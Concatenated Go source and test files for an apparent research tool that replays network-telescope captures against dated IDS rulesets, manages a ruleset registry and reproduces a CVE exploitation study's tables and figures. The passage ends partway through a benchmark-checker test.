		fmt.Println("CVD skill by publication period (half-year slices):")
		for _, p := range periods {
			fmt.Printf("  %s .. %s  %2d CVEs  mean skill %.2f\n",
				p.Start.Format("2006-01"), p.End.Format("2006-01"), p.CVEs, p.MeanSkill)
		}
		return nil
	case "kevfeed":
		props := core.ProposeKEVAdditions(res.Events, res.KEV, 2)
		fmt.Printf("automated KEV additions from telescope evidence (>=2 events): %d CVEs\n", len(props))
		for i, p := range props {
			if i == 15 {
				fmt.Printf("  ... and %d more\n", len(props)-15)
				break
			}
			status := "NOT in KEV"
			if p.InCatalog {
				status = fmt.Sprintf("in KEV, telescope leads by %.0f days", p.LeadDays)
			}
			fmt.Printf("  CVE-%s  first seen %s, %d events  (%s)\n",
				p.CVE, p.FirstSeen.Format("2006-01-02"), p.Events, status)
		}
		return nil
	case "artifacts":
		corpus, err := res.DisclosureArtifacts()
		if err != nil {
			return err
		}
		if err := os.MkdirAll(*out, 0o755); err != nil {
			return err
		}
		path := filepath.Join(*out, "disclosure-artifacts.json")
		if err := datasets.WriteJSON(path, corpus); err != nil {
			return err
		}
		fmt.Printf("wrote %d disclosure artifacts to %s\n", len(corpus), path)
		return nil
	case "all":
		return writeAll(res, *out)
	default:
		return fmt.Errorf("unknown command %q", fs.Arg(0))
	}
}

func summary(res *wayback.Results) error {
	fmt.Printf("CVE Wayback Machine — study summary\n\n")
	fmt.Printf("Capture: %d sessions, %d exploit events, %d CVEs, %d scanner IPs\n",
		res.Stats.Sessions, res.Stats.MatchedEvents, res.Stats.DistinctCVEs, res.Stats.DistinctSrcIPs)
	if res.Coverage.Sessions > 0 {
		fmt.Printf("Telescope coverage: %d unique instance IPs\n", res.Coverage.UniqueTelescopeIPs)
	}
	fmt.Println()
	fmt.Print(res.Table4().String())
	fmt.Printf("\nMean skill: %.2f (paper: 0.37)\n", res.MeanSkill())
	fmt.Printf("Mitigated exploit traffic: %.1f%% (paper: 95%%)\n", res.MitigatedShare()*100)
	f := res.Finding7()
	fmt.Printf("Finding 7: D<A %.2f -> %.2f, skill %+.0f%%\n", f.BeforeSatisfied, f.AfterSatisfied, f.SkillImprovement*100)
	kev := res.KEVComparison()
	fmt.Printf("KEV: %d/63 overlap, %.0f%% telescope-first, %.0f%% by >30 days\n",
		kev.OverlapCount, kev.DscopeFirstShare*100, kev.Over30DaysShare*100)
	return nil
}

func table(res *wayback.Results, which string) error {
	switch which {
	case "1":
		fmt.Print(res.Table1().String())
	case "2":
		fmt.Print(res.Table2().String())
	case "3":
		fmt.Print(res.Table3())
	case "4":
		fmt.Print(res.Table4().String())
	case "5":
		fmt.Print(res.Table5().String())
	case "6":
		fmt.Print(res.Table6().String())
	case "E", "e":
		fmt.Print(res.AppendixE().String())
	default:
		return fmt.Errorf("unknown table %q (1-6, E)", which)
	}
	return nil
}

func figure(res *wayback.Results, which string) error {
	n, err := strconv.Atoi(which)
	if err != nil {
		return fmt.Errorf("figure wants a number 1-18, got %q", which)
	}
	switch n {
	case 1:
		printHistogram("Figure 1: studied CVEs by publication quarter", res.Figure1(), 91, "days into study")
	case 2:
		for _, s := range res.Figure2() {
			printSeries(s)
		}
	case 3:
		printHistogram("Figure 3: exploit events over study time", res.Figure3(), 30, "days into study")
	case 4:
		printHistogram("Figure 4: exploit events relative to publication", res.Figure4(), 15, "days since publication")
	case 5:
		for _, f := range res.Figure5() {
			printWindow(f)
		}
	case 6:
		f := res.Figure6()
		fmt.Println("Figure 6: CVEs per 5-day bin (mitigated / unmitigated)")
		for i := range f.Mitigated {
			if f.Mitigated[i]+f.Unmit[i] == 0 {
				continue
			}
			fmt.Printf("  %+6.0fd  mit=%-3d unmit=%-3d\n", f.BinStart(i), f.Mitigated[i], f.Unmit[i])
		}
	case 7:
		f := res.Figure7()
		fmt.Printf("Figure 7: cumulative exploit events (mitigated n=%d, unmitigated n=%d)\n",
			len(f.MitigatedDays), len(f.UnmitDays))
		fmt.Printf("  mitigated   %s\n", report.Sparkline(f.Mitigated, 60))
		fmt.Printf("  unmitigated %s\n", report.Sparkline(f.Unmit, 60))
		fmt.Printf("  50%% of unmitigated exposure within %.0f days of publication\n",
			f.Unmit.Quantile(0.5))
	case 8:
		f := res.Figure8()
		fmt.Printf("Figure 8: Log4Shell sessions (n=%d)  %s\n", len(f.Times), report.Sparkline(f.CDF, 60))
	case 9:
		for _, s := range res.Figure9() {
			fmt.Printf("Figure 9 group %s (n=%d): %s\n", s.Group, len(s.DaysSince), report.Sparkline(s.CDF, 40))
		}
	case 10:
		printSeries(res.Figure10())
	case 11:
		printSeries(res.Figure11())
	case 12:
		f := res.Figure12()
		fmt.Printf("Figure 12: Confluence sessions (n=%d)  %s\n", len(f.Times), report.Sparkline(f.CDF, 60))
	case 13, 14, 15, 16, 17, 18:
		printWindow(res.Figures13to18()[n-13])
	default:
		return fmt.Errorf("unknown figure %d", n)
	}
	return nil
}

func printWindow(f core.WindowCDF) {
	fmt.Printf("%s (P(%s) = %.2f)  %s\n", f.Label, f.Desideratum, f.SatisfiedAtZero,
		report.Sparkline(f.CDF, 60))
}

func printSeries(s report.Series) {
	e, err := stats.NewECDF(xs(s))
	if err != nil {
		fmt.Printf("%s: (empty)\n", s.Name)
		return
	}
	fmt.Printf("%s (n=%d, median %.1f %s)  %s\n", s.Name, len(s.Points), e.Median(), s.XLabel,
		report.Sparkline(e, 60))
}

func xs(s report.Series) []float64 {
	out := make([]float64, len(s.Points))
	for i, p := range s.Points {
		out[i] = p.X
	}
	return out
}

func printHistogram(title string, h *stats.Histogram, binDays float64, label string) {
	fmt.Println(title)
	for i, c := range h.Counts {
		if c == 0 {
			continue
		}
		fmt.Printf("  %+7.0f %s: %d\n", h.BinStart(i), label, c)
	}
}

func writeAll(res *wayback.Results, dir string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	writeTable := func(name string, t report.Table) error {
		f, err := os.Create(filepath.Join(dir, name))
		if err != nil {
			return err
		}
		defer f.Close()
		return t.WriteCSV(f)
	}
	tables := map[string]report.Table{
		"table1.csv": res.Table1(), "table2.csv": res.Table2(),
		"table4.csv": res.Table4(), "table5.csv": res.Table5(),
		"table6.csv": res.Table6(), "appendixE.csv": res.AppendixE(),
	}
	for name, t := range tables {
		if err := writeTable(name, t); err != nil {
			return err
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "table3.txt"), []byte(res.Table3()), 0o644); err != nil {
		return err
	}
	// Histogram figures as bin CSVs.
	writeHist := func(name, label string, h *stats.Histogram) error {
		tab := report.HistogramTable(name, label, h, func(i int) string {
			return fmt.Sprintf("%g", h.BinStart(i))
		})
		f, err := os.Create(filepath.Join(dir, name))
		if err != nil {
			return err
		}
		defer f.Close()
		return tab.WriteCSV(f)
	}
	if err := writeHist("figure1.csv", "days-into-study", res.Figure1()); err != nil {
		return err
	}
	if err := writeHist("figure3.csv", "days-into-study", res.Figure3()); err != nil {
		return err
	}
	if err := writeHist("figure4.csv", "days-since-publication", res.Figure4()); err != nil {
		return err
	}
	f6 := res.Figure6()
	f6tab := report.Table{Title: "Figure 6", Headers: []string{"bin-start-days", "mitigated", "unmitigated"}}
	for i := range f6.Mitigated {
		f6tab.AddRow(fmt.Sprintf("%g", f6.BinStart(i)), f6.Mitigated[i], f6.Unmit[i])
	}
	f6file, err := os.Create(filepath.Join(dir, "figure6.csv"))
	if err != nil {
		return err
	}
	if err := f6tab.WriteCSV(f6file); err != nil {
		f6file.Close()
		return err
	}
	if err := f6file.Close(); err != nil {
		return err
	}

	// Figures as long-form series CSVs.
	var windowSeries []report.Series
	for _, f := range append(res.Figure5(), res.Figures13to18()...) {
		windowSeries = append(windowSeries, report.FromECDF(f.Label, "days", f.CDF))
	}
	figures := map[string][]report.Series{
		"figure2.csv":       res.Figure2(),
		"figure5_13-18.csv": windowSeries,
		"figure10.csv":      {res.Figure10()},
		"figure11.csv":      {res.Figure11()},
	}
	f7 := res.Figure7()
	figures["figure7.csv"] = []report.Series{
		report.FromECDF("mitigated", "days", f7.Mitigated),
		report.FromECDF("unmitigated", "days", f7.Unmit),
	}
	figures["figure8.csv"] = []report.Series{report.FromECDF("log4shell", "days", res.Figure8().CDF)}
	figures["figure12.csv"] = []report.Series{report.FromECDF("confluence", "days", res.Figure12().CDF)}
	var fig9 []report.Series
	for _, s := range res.Figure9() {
		fig9 = append(fig9, report.FromECDF("group "+s.Group, "days", s.CDF))
	}
	figures["figure9.csv"] = fig9
	for name, series := range figures {
		f, err := os.Create(filepath.Join(dir, name))
		if err != nil {
			return err
		}
		if err := report.WriteSeriesCSV(f, series...); err != nil {
			f.Close()
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	fmt.Printf("wrote tables and figures to %s\n", dir)
	return nil
}

// replay scans on-disk captures (pcap or pcapng, one or many — rotated
// segments replay in filename order) against a dated ruleset — the study's
// post-facto evaluation as a standalone tool. Each segment gets its own
// decoder goroutine feeding the flow-sharded assembler, so multi-segment
// replays parallelize while producing the exact serial-scan output.
func replay(paths []string, rulesPath string, shards, workers int, overlap tcpasm.OverlapPolicy, impairSpec string) error {
	if len(paths) == 0 || paths[0] == "" {
		return fmt.Errorf("replay needs at least one capture file")
	}
	profile, err := netsim.ParseProfile(impairSpec)
	if err != nil {
		return err
	}
	var ruleset []rules.DatedRule
	if rulesPath == "" {
		var err error
		ruleset, err = scanner.StudyRuleset()
		if err != nil {
			return err
		}
	} else {
		f, err := os.Open(rulesPath)
		if err != nil {
			return err
		}
		defer f.Close()
		var errs []error
		ruleset, errs = rules.ParseDatedRuleset(f)
		for _, e := range errs {
			fmt.Fprintln(os.Stderr, "waybackctl: ruleset:", e)
		}
		if len(ruleset) == 0 {
			return fmt.Errorf("no usable rules in %s", rulesPath)
		}
	}
	engine := ids.NewEngine(ruleset, ids.Config{PortInsensitive: true})

	// One source per file, in the same sorted order OpenFiles replays them,
	// so segments decode in parallel.
	sorted := append([]string(nil), paths...)
	sort.Strings(sorted)
	srcs := make([]pcapio.PacketSource, len(sorted))
	for i, path := range sorted {
		src, err := pcapio.OpenFiles(path)
		if err != nil {
			return err
		}
		defer src.Close()
		srcs[i] = src
	}
	srcs = netsim.ImpairSources(srcs, profile)
	events, stats, err := ids.ScanCaptureSharded(srcs, engine,
		ids.ScanConfig{Shards: shards, MatchWorkers: workers,
			Assembler: tcpasm.Config{OverlapPolicy: overlap}})
	if err != nil {
		return err
	}
	fmt.Printf("%d file(s): %d packets (%d undecodable), %d sessions, %d exploit events, %d CVEs\n",
		len(paths), stats.Packets, stats.DecodeErrors, stats.Sessions, stats.MatchedEvents, stats.DistinctCVEs)
	if stats.AmbiguousSessions > 0 {
		fmt.Printf("  %d session(s) flagged ambiguous (conflicting overlapping retransmits, %s policy)\n",
			stats.AmbiguousSessions, overlap)
	}
	byCVE := map[string]int{}
	for _, ev := range events {
		key := ev.CVE
		if key == "" {
			key = fmt.Sprintf("sid:%d", ev.SID)
		}
		byCVE[key]++
	}
	keys := make([]string, 0, len(byCVE))
	for k := range byCVE {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		if byCVE[keys[i]] != byCVE[keys[j]] {
			return byCVE[keys[i]] > byCVE[keys[j]]
		}
		return keys[i] < keys[j]
	})
	for _, k := range keys {
		fmt.Printf("  CVE-%-14s %d events\n", k, byCVE[k])
	}
	// Rule profiling: which signatures did the work.
	prof := engine.Profile()
	hot := 0
	for _, p := range prof {
		if p.Evaluated == 0 {
			continue
		}
		if hot == 0 {
			fmt.Println("hottest rules (evaluations/matches):")
		}
		hot++
		if hot > 5 {
			break
		}
		fmt.Printf("  sid:%-7d %d/%d\n", p.SID, p.Evaluated, p.Matched)
	}
	return nil
}
