package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"time"

	"repro/internal/registry"
	"repro/internal/rules"
	"repro/wayback"
)

// rulesCmd drives the versioned ruleset registry:
//
//	waybackctl rules publish -file delta.rules {-addr URL | -dir DIR}
//	waybackctl rules show [-full] {-addr URL | -dir DIR}
//	waybackctl rules rescan {-addr URL | -dir DIR -store DIR}
//
// With -addr the command talks to a running waybackd over /v1/ruleset — the
// daemon hot-swaps its matcher and its rescan worker picks up the backlog.
// With -dir it operates on the registry directory directly: publish appends
// to the journal (a polling daemon or sensor adopts it within one reload
// interval), and rescan re-attributes a store offline.
func rulesCmd(args []string, studyCfg wayback.Config) error {
	if len(args) == 0 {
		return errors.New("rules wants a subcommand: publish | show | rescan")
	}
	sub, rest := args[0], args[1:]
	fs := flag.NewFlagSet("rules "+sub, flag.ContinueOnError)
	addr := fs.String("addr", "", "waybackd base URL (\"http://host:8416\"); live mode")
	dir := fs.String("dir", "", "registry directory; offline mode")
	file := fs.String("file", "", "dated ruleset delta for publish (\"-\" = stdin)")
	full := fs.Bool("full", false, "show: print the full dated ruleset text")
	storeDir := fs.String("store", "", "event store directory for offline rescan")
	if err := fs.Parse(rest); err != nil {
		return err
	}
	if (*addr == "") == (*dir == "") {
		return errors.New("rules wants exactly one of -addr (live daemon) or -dir (registry directory)")
	}
	if *addr != "" {
		return rulesHTTP(sub, *addr, *file, *full)
	}
	return rulesOffline(sub, *dir, *file, *full, *storeDir, studyCfg)
}

// readDelta loads and parses a dated ruleset delta from -file.
func readDelta(file string) ([]rules.DatedRule, []byte, error) {
	if file == "" {
		return nil, nil, errors.New("publish wants -file (\"-\" = stdin)")
	}
	var raw []byte
	var err error
	if file == "-" {
		raw, err = io.ReadAll(os.Stdin)
	} else {
		raw, err = os.ReadFile(file)
	}
	if err != nil {
		return nil, nil, err
	}
	delta, errs := rules.ParseDatedRuleset(bytes.NewReader(raw))
	for _, e := range errs {
		fmt.Fprintln(os.Stderr, "waybackctl: ruleset:", e)
	}
	if len(errs) > 0 {
		return nil, nil, fmt.Errorf("delta has %d parse errors", len(errs))
	}
	if len(delta) == 0 {
		return nil, nil, errors.New("delta has no rules")
	}
	return delta, raw, nil
}

// rulesetState mirrors the /v1/ruleset response shape.
type rulesetState struct {
	Generation      uint64 `json:"generation"`
	Rules           int    `json:"rules"`
	Digests         int64  `json:"digests"`
	RescanNeeded    bool   `json:"rescan_needed"`
	RescanPending   int64  `json:"rescan_pending"`
	RescanDone      int64  `json:"rescan_done"`
	AmendedSessions int64  `json:"amended_sessions"`
	Ruleset         string `json:"ruleset,omitempty"`
}

func (st rulesetState) print(full bool) {
	fmt.Printf("generation %d, %d rules, %d digests recorded\n", st.Generation, st.Rules, st.Digests)
	fmt.Printf("rescan: needed=%v pending=%d done=%d, %d sessions amended\n",
		st.RescanNeeded, st.RescanPending, st.RescanDone, st.AmendedSessions)
	if full && st.Ruleset != "" {
		fmt.Print(st.Ruleset)
	}
}

func rulesHTTP(sub, addr, file string, full bool) error {
	client := &http.Client{Timeout: 5 * time.Minute} // rescan is synchronous
	get := func(path string) (*http.Response, error) { return client.Get(addr + path) }
	var resp *http.Response
	var err error
	switch sub {
	case "publish":
		var raw []byte
		if _, raw, err = readDelta(file); err != nil {
			return err
		}
		resp, err = client.Post(addr+"/v1/ruleset", "text/plain", bytes.NewReader(raw))
	case "show":
		path := "/v1/ruleset"
		if full {
			path += "?full=1"
		}
		resp, err = get(path)
	case "rescan":
		resp, err = client.Post(addr+"/v1/ruleset/rescan", "text/plain", nil)
	default:
		return fmt.Errorf("unknown rules subcommand %q (publish | show | rescan)", sub)
	}
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%s: %s: %s", resp.Request.URL, resp.Status, bytes.TrimSpace(body))
	}
	if sub == "rescan" {
		var st struct {
			Digests   int          `json:"digests"`
			Amended   int          `json:"amended"`
			Additions int          `json:"additions"`
			Retracted int          `json:"retracted"`
			Skipped   int          `json:"skipped_truncated"`
			Ruleset   rulesetState `json:"ruleset"`
		}
		if err := json.Unmarshal(body, &st); err != nil {
			return err
		}
		fmt.Printf("rescan: %d digests, %d sessions re-attributed (%d additions, %d retracted, %d truncated skipped)\n",
			st.Digests, st.Amended, st.Additions, st.Retracted, st.Skipped)
		st.Ruleset.print(false)
		return nil
	}
	var st rulesetState
	if err := json.Unmarshal(body, &st); err != nil {
		return err
	}
	st.print(full)
	return nil
}

func rulesOffline(sub, dir, file string, full bool, storeDir string, studyCfg wayback.Config) error {
	// The offline registry layers the journal on the same base the daemon
	// compiles, so generation, rule counts, and rescan labels line up with a
	// waybackd pointed at the same directory.
	study, err := wayback.NewStudy(studyCfg)
	if err != nil {
		return err
	}
	reg, err := registry.Open(registry.Config{
		Dir:    dir,
		Base:   study.DatedRuleset(),
		Engine: study.EngineConfig(),
	})
	if err != nil {
		return err
	}
	defer reg.Close()

	state := func() rulesetState {
		return rulesetState{
			Generation:    reg.Generation(),
			Rules:         reg.NumRules(),
			Digests:       reg.DigestCount(),
			RescanNeeded:  reg.RescanNeeded(),
			RescanPending: reg.RescanPending(),
			RescanDone:    reg.RescanDone(),
		}
	}
	switch sub {
	case "publish":
		delta, _, err := readDelta(file)
		if err != nil {
			return err
		}
		gen, err := reg.Publish(delta)
		if err != nil {
			return err
		}
		fmt.Printf("published %d rules as generation %d\n", len(delta), gen)
		state().print(false)
		return nil
	case "show":
		st := state()
		st.print(false)
		if full {
			return rules.WriteDatedRuleset(os.Stdout, reg.Ruleset())
		}
		return nil
	case "rescan":
		if storeDir == "" {
			return errors.New("offline rescan wants -store (the event store directory)")
		}
		store, err := wayback.OpenStore(storeDir)
		if err != nil {
			return err
		}
		defer store.Close()
		stats, err := reg.Rescan(store)
		if err != nil {
			return err
		}
		fmt.Printf("rescan: %d digests, %d sessions re-attributed (%d additions, %d retracted, %d truncated skipped)\n",
			stats.Digests, stats.Amended, stats.Additions, stats.Retracted, stats.SkippedCap)
		state().print(false)
		return nil
	default:
		return fmt.Errorf("unknown rules subcommand %q (publish | show | rescan)", sub)
	}
}
