package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"repro/internal/pcapio"
	"repro/internal/rules"
	"repro/internal/scanner"
	"repro/internal/telescope"
)

// The CLI prints to stdout; these tests exercise command dispatch, flag
// handling, and the artifact-writing paths. Output content is validated by
// the library tests; here we assert success/failure and side effects.

func TestRunCommands(t *testing.T) {
	commands := [][]string{
		{"-scale", "2000", "summary"},
		{"-scale", "2000", "table", "1"},
		{"-scale", "2000", "table", "2"},
		{"-scale", "2000", "table", "3"},
		{"-scale", "2000", "table", "4"},
		{"-scale", "2000", "table", "5"},
		{"-scale", "2000", "table", "6"},
		{"-scale", "2000", "table", "E"},
		{"-scale", "2000", "finding7"},
		{"-scale", "2000", "kev"},
		{"-scale", "2000", "audit"},
		{"-scale", "2000", "kevfeed"},
		{"-scale", "2000", "figure", "1"},
		{"-scale", "2000", "figure", "5"},
		{"-scale", "2000", "figure", "7"},
		{"-scale", "2000", "figure", "9"},
		{"-scale", "2000", "figure", "11"},
		{"-scale", "2000", "figure", "13"},
		{"-scale", "2000", "-pcap", "summary"},
		{"-scale", "2000", "-stream", "summary"},
		{"-scale", "2000", "-stream", "-stream-segments", "3", "table", "4"},
		{"-scale", "2000", "-pipeline", "table", "4"},
	}
	// Silence stdout for the sweep.
	old := os.Stdout
	null, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	os.Stdout = null
	defer func() {
		os.Stdout = old
		null.Close()
	}()
	for _, args := range commands {
		if err := run(args); err != nil {
			t.Errorf("run(%v): %v", args, err)
		}
	}
}

func TestRunErrors(t *testing.T) {
	bad := [][]string{
		{},                                  // no command
		{"frobnicate"},                      // unknown command
		{"table", "9"},                      // unknown table
		{"figure", "99"},                    // unknown figure
		{"figure", "x"},                     // non-numeric figure
		{"-scale", "notanumber", "summary"}, // bad flag
	}
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	defer func() {
		os.Stdout = old
		null.Close()
	}()
	for _, args := range bad {
		if err := run(args); err == nil {
			t.Errorf("run(%v) succeeded, want error", args)
		}
	}
}

func TestRunAllWritesArtifacts(t *testing.T) {
	dir := t.TempDir()
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	err := run([]string{"-scale", "2000", "-out", dir, "all"})
	os.Stdout = old
	null.Close()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"table1.csv", "table2.csv", "table3.txt", "table4.csv", "table5.csv",
		"table6.csv", "appendixE.csv", "figure1.csv", "figure2.csv",
		"figure3.csv", "figure4.csv", "figure5_13-18.csv", "figure6.csv",
		"figure7.csv", "figure8.csv", "figure9.csv", "figure10.csv",
		"figure11.csv", "figure12.csv",
	}
	for _, name := range want {
		path := filepath.Join(dir, name)
		info, err := os.Stat(path)
		if err != nil {
			t.Errorf("missing artifact %s: %v", name, err)
			continue
		}
		if info.Size() == 0 {
			t.Errorf("artifact %s is empty", name)
		}
	}
	// Sanity on one CSV's content.
	data, err := os.ReadFile(filepath.Join(dir, "table4.csv"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "V < A") {
		t.Errorf("table4.csv missing desiderata:\n%s", data)
	}
}

func TestRunArtifactsCommand(t *testing.T) {
	dir := t.TempDir()
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	err := run([]string{"-scale", "2000", "-out", dir, "artifacts"})
	os.Stdout = old
	null.Close()
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(dir, "disclosure-artifacts.json"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "2021-44228") {
		t.Error("artifact corpus missing Log4Shell")
	}
}

func TestRunTrendCommand(t *testing.T) {
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	err := run([]string{"-scale", "2000", "trend"})
	os.Stdout = old
	null.Close()
	if err != nil {
		t.Fatal(err)
	}
}

func TestReplayCommand(t *testing.T) {
	// Write a small capture with the telescope, then replay it.
	dir := t.TempDir()
	path := filepath.Join(dir, "capture.pcap")
	bps, err := scanner.Build(scanner.Config{Seed: 3, Scale: 2000, Noise: 5})
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w, err := pcapio.NewWriter(f, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: 3})
	if err := tel.WritePcap(bps, w); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}

	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	err = run([]string{"replay", path})
	os.Stdout = old
	null.Close()
	if err != nil {
		t.Fatal(err)
	}

	// And with an explicit dated ruleset file.
	rulesPath := filepath.Join(dir, "study.rules")
	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	rf, err := os.Create(rulesPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := rules.WriteDatedRuleset(rf, rs); err != nil {
		t.Fatal(err)
	}
	rf.Close()
	os.Stdout = null2()
	err = run([]string{"-rules", rulesPath, "replay", path})
	os.Stdout = old
	if err != nil {
		t.Fatal(err)
	}

	if err := run([]string{"replay"}); err == nil {
		t.Error("replay without file accepted")
	}
	if err := run([]string{"replay", filepath.Join(dir, "missing.pcap")}); err == nil {
		t.Error("replay of missing file accepted")
	}
}

func null2() *os.File {
	f, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	return f
}

func TestRunCICommand(t *testing.T) {
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	err := run([]string{"-scale", "2000", "ci"})
	os.Stdout = old
	null.Close()
	if err != nil {
		t.Fatal(err)
	}
}

func TestRunReportCommand(t *testing.T) {
	dir := t.TempDir()
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	err := run([]string{"-scale", "2000", "-out", dir, "report"})
	os.Stdout = old
	null.Close()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, "report.md")); err != nil {
		t.Fatal(err)
	}
}
