package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const sampleOutput = `goos: linux
goarch: amd64
pkg: repro/internal/fleet
cpu: Intel(R) Xeon(R) Processor @ 2.10GHz
BenchmarkFleetThroughput/sensors=1-8         	  807720	      1747 ns/op	  57.25 MB/s	    572567 events/s
BenchmarkFleetThroughput/sensors=4-8         	  208508	      6287 ns/op	  15.91 MB/s	    636501 events/s
BenchmarkSnappyEncode-8   	   12675	     94549 ns/op	 661.16 MB/s	         5.018 ratio
BenchmarkDecode/into-8    	40910366	        29.40 ns/op	       0 B/op	       0 allocs/op
BenchmarkDecode/legacy-8  	10764813	       110.4 ns/op	      80 B/op	       1 allocs/op
PASS
ok  	repro/internal/fleet	5.899s
`

func TestParseBench(t *testing.T) {
	got, err := parseBench(strings.NewReader(sampleOutput))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 5 {
		t.Fatalf("parsed %d results, want 5: %+v", len(got), got)
	}
	if got[0].name != "BenchmarkFleetThroughput/sensors=1" {
		t.Errorf("GOMAXPROCS suffix not stripped: %q", got[0].name)
	}
	if got[1].nsPerOp != 6287 || got[1].eventsPerSec != 636501 {
		t.Errorf("sensors=4 parsed as %+v", got[1])
	}
	if got[2].eventsPerSec != 0 {
		t.Errorf("snappy bench has no events/s, parsed %+v", got[2])
	}
	if got[2].hasAllocs {
		t.Errorf("snappy bench ran without -benchmem, parsed %+v", got[2])
	}
	if !got[3].hasAllocs || got[3].allocsPerOp != 0 {
		t.Errorf("decode/into allocs parsed as %+v", got[3])
	}
	if !got[4].hasAllocs || got[4].allocsPerOp != 1 {
		t.Errorf("decode/legacy allocs parsed as %+v", got[4])
	}
}

func floatPtr(v float64) *float64 { return &v }

func TestRunAllocChecks(t *testing.T) {
	// A zero baseline is a hard zero-allocation guarantee; the legacy decode
	// is held to its one allocation with the usual threshold.
	path := writeBaseline(t, []benchSpec{
		{Name: "BenchmarkDecode/into", NsPerOp: 1 << 30, AllocsPerOp: floatPtr(0)},
		{Name: "BenchmarkDecode/legacy", NsPerOp: 1 << 30, AllocsPerOp: floatPtr(1)},
	})
	if err := run([]string{"-baseline", path}, strings.NewReader(sampleOutput), &strings.Builder{}); err != nil {
		t.Fatalf("matching alloc counts failed: %v", err)
	}

	// One allocation against a zero baseline must fail even though it is
	// within any percentage threshold of... zero.
	path = writeBaseline(t, []benchSpec{
		{Name: "BenchmarkDecode/legacy", NsPerOp: 1 << 30, AllocsPerOp: floatPtr(0)},
	})
	var out strings.Builder
	if err := run([]string{"-baseline", path, "-threshold", "10"}, strings.NewReader(sampleOutput), &out); err == nil {
		t.Fatalf("1 alloc/op vs zero baseline passed:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "baseline demands zero") {
		t.Errorf("failure not attributed to the zero-alloc guarantee:\n%s", out.String())
	}

	// Output without -benchmem carries no allocs/op: the check is skipped,
	// not failed, so the baseline stays usable with plain bench runs.
	noMem := strings.ReplaceAll(sampleOutput,
		"\t       0 B/op\t       0 allocs/op", "")
	noMem = strings.ReplaceAll(noMem, "\t      80 B/op\t       1 allocs/op", "")
	if err := run([]string{"-baseline", path}, strings.NewReader(noMem), &strings.Builder{}); err != nil {
		t.Fatalf("benchmem-less output tripped the alloc check: %v", err)
	}
}

func writeBaseline(t *testing.T, specs []benchSpec) string {
	t.Helper()
	raw, err := json.Marshal(baseline{Benchmarks: specs})
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "base.json")
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunPassesWithinThreshold(t *testing.T) {
	path := writeBaseline(t, []benchSpec{
		{Name: "BenchmarkFleetThroughput/sensors=4", NsPerOp: 6000, EventsPerSec: 600000},
	})
	var out strings.Builder
	err := run([]string{"-baseline", path}, strings.NewReader(sampleOutput), &out)
	if err != nil {
		t.Fatalf("run failed: %v\n%s", err, out.String())
	}
	// Benchmarks missing from the baseline are reported, never fatal.
	if !strings.Contains(out.String(), "SKIP BenchmarkSnappyEncode") {
		t.Errorf("missing SKIP line:\n%s", out.String())
	}
}

func TestRunFailsOnNsRegression(t *testing.T) {
	path := writeBaseline(t, []benchSpec{
		{Name: "BenchmarkFleetThroughput/sensors=4", NsPerOp: 4000},
	})
	var out strings.Builder
	err := run([]string{"-baseline", path}, strings.NewReader(sampleOutput), &out)
	if err == nil {
		t.Fatalf("6287 ns/op vs 4000 baseline passed:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "FAIL BenchmarkFleetThroughput/sensors=4") {
		t.Errorf("missing FAIL line:\n%s", out.String())
	}
}

func TestRunFailsOnThroughputRegression(t *testing.T) {
	path := writeBaseline(t, []benchSpec{
		// ns/op generous, events/s far above measured: only the throughput
		// check should trip.
		{Name: "BenchmarkFleetThroughput/sensors=4", NsPerOp: 1 << 30, EventsPerSec: 2000000},
	})
	var out strings.Builder
	err := run([]string{"-baseline", path}, strings.NewReader(sampleOutput), &out)
	if err == nil {
		t.Fatalf("636501 events/s vs 2000000 baseline passed:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "events/s") {
		t.Errorf("failure not attributed to events/s:\n%s", out.String())
	}
}

func TestRunThresholdFlag(t *testing.T) {
	path := writeBaseline(t, []benchSpec{
